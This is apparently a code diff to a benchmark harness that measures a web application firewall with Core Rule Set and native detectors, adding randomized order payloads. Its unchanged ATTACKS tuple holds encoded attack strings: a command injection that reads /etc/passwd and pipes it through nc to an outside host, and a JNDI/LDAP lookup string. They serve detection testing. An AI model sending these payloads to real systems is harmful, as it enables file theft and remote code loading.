@@ -35,6 +35,15 @@ ATTACKS = (
     "cmd=;cat%20/etc/passwd%7Cnc%20192.0.2.1%204444",
     "x=$%7Bjndi:ldap://192.0.2.1/a%7D",
 )
+LINES = {"post": 17, "post-100k": 1400, "prose": 12}
+"""How many lines an order has."""
+
+FRESH = 4096
+"""How many different orders are sent in turn: some 80,000 texts, of which the gate keeps few as known."""
+
+LOOKS = ("crs", "native", "both")
+"""What looks: the Core Rule Set, the gate's own detectors, or both."""
+
 BROWSER = {
     "Host": "shop.example.com",
     "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
@@ -85,7 +94,17 @@ def ran(*command: str, env: Mapping[str, str] | None = None) -> Path:
 
 def is_waf(variant: str) -> bool:
     """Whether a row looks for attacks."""
-    return variant.startswith("crs-")
+    return looks(variant) in LOOKS
+
+
+def looks(variant: str) -> str:
+    """What looks in a row: the first word of its name."""
+    return variant.partition("-")[0]
+
+
+def sent(variant: str) -> str:
+    """What is sent in a row: the rest of its name."""
+    return variant.partition("-")[2]
 
 
 def mode(variant: str) -> str:
@@ -95,7 +114,7 @@ def mode(variant: str) -> str:
 
 def enforced(variant: str) -> bool:
     """Whether what is found is refused: attacks are let through, and so is prose that level 1 takes for one."""
-    return variant not in ("crs-attack", "crs-prose")
+    return sent(variant) not in ("attack", "prose")
 
 
 def order(lines: int, prose: bool) -> bytes:
@@ -116,14 +135,30 @@ def order(lines: int, prose: bool) -> bytes:
     return json.dumps({"customer": customer, "lines": [line(number) for number in range(lines)]}).encode()
 
 
+def fresh_order(seed: int) -> bytes:
+    """An order as long as that of `post`, whose texts no other order has."""
+    chance = random.Random(seed)  # noqa: S311 -- The same each time is what is wanted.
+
+    def word(letters: int) -> str:
+        return "".join(chance.choices("abcdefghijklmnopqrstuvwxyz", k=letters))
+
+    def line() -> dict[str, object]:
+        return {"product": f"{word(4)}-{word(5)}", "quantity": chance.randrange(1, 9), "price": 19.95, "gift": False}
+
+    customer = {"id": f"c-{word(4)}", "name": f"{word(3)} {word(7)}", "city": word(11), "country": "DE"}
+    return json.dumps({"customer": customer, "lines": [line() for _ in range(LINES["post"])]}).encode()
+
+
 def requests(variant: str) -> bytes:
     """The requests of a row, one after the other."""
-    if variant == "crs-get":
+    what = sent(variant)
+    if what == "get":
         return request("GET", "/orders/1017?expand=lines&page=2")
-    if variant == "crs-attack":
+    if what == "attack":
         return b"".join(request("GET", f"/orders/1017?{query}") for query in ATTACKS)
-    lines = {"crs-post": 17, "crs-post-100k": 1400, "crs-prose": 12}[variant]
-    return request("POST", "/orders", order(lines, variant == "crs-prose"))
+    if what == "post-fresh":
+        return b"".join(request("POST", "/orders", fresh_order(seed)) for seed in range(FRESH))
+    return request("POST", "/orders", order(LINES[what], what == "prose"))
 
 
 def request(method: str, target: str, body: bytes | None = None) -> bytes:
@@ -168,18 +203,20 @@ def rule_set() -> dict[str, object]:
     }
 
 
-POLICY: dict[str, object] = {
-    "set": 0,
-    "native": False,
-    "overrule": False,
-    "variables": {},
-    "threshold": 5,
-    "exclude": [],
-    "inspect_bytes": 8 << 20,
-    "longer": "refuse",
-    "answers": None,
-}
-"""The gate's `waf`."""
+def policy(variant: str) -> dict[str, object]:
+    """The gate's `waf`."""
+    which = looks(variant)
+    return {
+        "set": None if which == "native" else 0,
+        "native": which != "crs",
+        "overrule": which == "both",
+        "variables": {},
+        "threshold": 5,
+        "exclude": [],
+        "inspect_bytes": 8 << 20,
+        "longer": "refuse",
+        "answers": None,
+    }
 
 
 @dataclass(frozen=True)
